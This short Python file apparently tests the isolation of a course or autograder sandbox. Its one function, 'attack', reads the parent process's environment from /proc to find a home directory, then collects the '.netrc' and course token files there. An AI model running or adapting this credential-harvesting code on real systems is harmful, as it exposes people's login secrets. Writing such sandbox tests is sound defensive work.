import os

HIDDEN = (".netrc", ".config/course/token")


def attack(controller):
    homes = [os.path.abspath("@course@/../home")]
    try:
        with open("/proc/%d/environ" % os.getppid()) as file:
            words = dict(word.split("=", 1) for word in file.read().split("\0") if "=" in word)
        homes.append(words["HOME"])
    except OSError:
        pass  # it may be guessed
    told = []
    for path in (os.path.join(home, name) for home in homes for name in HIDDEN):
        try:
            with open(path) as file:
                told.append(file.read())
        except OSError:
            pass  # another one
    return told or None
